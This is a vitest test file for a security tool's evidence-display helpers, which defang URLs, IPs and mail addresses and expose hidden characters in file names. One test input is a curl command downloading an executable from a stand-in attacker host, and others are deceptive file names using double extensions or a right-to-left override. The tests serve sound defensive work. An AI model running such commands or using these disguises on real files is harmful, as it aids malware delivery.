import { describe, expect, it } from 'vitest';
import {
  cutBefore,
  piecesByMark,
  recipientsLine,
  shownEvidence,
  shownLine,
  tailOf,
} from './evidence-text.ts';

describe('shownEvidence', () => {
  it('defangs URLs, hosts, addresses and mail addresses', () => {
    expect(shownEvidence('https://evil.example/a.b')).toBe('hxxps://evil[.]example/a.b');
    expect(shownEvidence('203.0.113.9')).toBe('203[.]0[.]113[.]9');
    expect(shownEvidence('evil.example')).toBe('evil[.]example');
    expect(shownEvidence('mallory@evil.example')).toBe('mallory[@]evil[.]example');
  });

  it('defangs mail addresses in running text where addresses are announced, as in the query of an email cluster', () => {
    expect(shownEvidence('Sender is mallory@evil.example, P2 a.b@c.example')).toBe(
      'Sender is mallory[@]evil[.]example, P2 a.b[@]c[.]example',
    );
    expect(shownEvidence('runs as dana@contoso.example', 'text')).toBe('runs as dana@contoso.example');
  });

  it('leaves file names and commands readable but for the URLs in them', () => {
    expect(shownEvidence('cmd.exe', 'text')).toBe('cmd.exe');
    expect(shownEvidence('curl http://evil.example/x -o a.exe', 'text')).toBe(
      'curl hxxp://evil[.]example/x -o a.exe',
    );
  });

  it('shows characters that hide or turn text', () => {
    expect(shownEvidence('invoice\u202efdp.exe', 'text')).toBe('invoice⟦RLO⟧fdp.exe');
    expect(shownEvidence('a\u001b[31mb', 'text')).toBe('a⟦ESC⟧[31mb');
  });
});

describe('a line of evidence', () => {
  it('shows line breaks as marks', () => {
    expect(shownLine('a\nb\tc.exe', 'text')).toBe('a⟦LF⟧b⟦TAB⟧c.exe');
    expect(shownEvidence('a\nb', 'text')).toBe('a\nb');
  });

  it('is cut beside its marks, and beside characters of two units', () => {
    const line = 'invoice⟦RLO⟧fdp.exe';
    expect([7, 8, 9, 11, 12, 13, 99].map((tail) => line.slice(cutBefore(line, tail)))).toEqual([
      'fdp.exe',
      '⟦RLO⟧fdp.exe',
      '⟦RLO⟧fdp.exe',
      '⟦RLO⟧fdp.exe',
      '⟦RLO⟧fdp.exe',
      'e⟦RLO⟧fdp.exe',
      line,
    ]);
    expect(cutBefore(`⟦${'x'.repeat(40)}`, 14)).toBe(27);
    expect('ab😀cd'.slice(cutBefore('ab😀cd', 3))).toBe('😀cd');
    expect(piecesByMark(line)).toEqual(['invoice', '⟦RLO⟧', 'fdp.exe']);
  });

  it.each([
    ['Salary_review_2025-06.pdf.js', '2025-06.pdf.js'],
    ['Salary_review_2025-06.zip', '_2025-06.zip'],
    ['doubleextension.pdf.exe', 'ion.pdf.exe'],
    [String.raw`C:\Windows\System32\cmd.exe`, 'tem32\\cmd.exe'],
    ['invoice.docx.download', '.docx.download'],
    ['a.b.spreadsheet.scripting', 'et.scripting'],
    [`invoice.pdf${' '.repeat(40)}.exe`, `${' '.repeat(10)}.exe`],
    ['Action required: your June salary review', 'salary review'],
    ['evil.js', '.js'],
    ['a.exe', 'e'],
    ['cmd', ''],
    ['', ''],
  ])('keeps the end of %j in sight', (line, tail) => {
    expect(line.slice(cutBefore(line, tailOf(line)))).toBe(tail);
  });
});

describe('recipientsLine', () => {
  it('names those whom a message went to, defanged, and counts the rest', () => {
    expect(recipientsLine([])).toBeNull();
    expect(recipientsLine(['ana@contoso.com'])).toBe('to ana[@]contoso[.]com');
    expect(recipientsLine(['a@b.cc', 'x\u202ey@b.cc', 'c@b.cc', 'd@b.cc'])).toBe(
      'to a[@]b[.]cc, x⟦RLO⟧y[@]b[.]cc and 2 more',
    );
  });
});
